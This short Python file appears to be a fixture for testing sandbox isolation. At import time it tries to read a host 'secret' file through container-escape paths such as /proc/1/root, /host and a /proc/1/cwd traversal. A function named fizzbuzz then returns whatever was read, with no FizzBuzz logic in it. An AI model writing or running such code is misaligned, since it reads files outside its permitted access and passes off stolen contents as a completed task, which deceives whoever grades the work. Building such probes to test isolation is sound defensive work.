def attempt():
    """Read a file of the host, by its path and through processes that may see another root."""
    for root in ("", "/host", "/proc/1/root", "/proc/self/root", "/proc/1/cwd/../../../.."):
        try:
            with open(root + "@FOLDER@/secret") as file:
                return file.read()
        except OSError:
            pass
    return "held"


RESULT = attempt()


def fizzbuzz(n):
    return [RESULT]
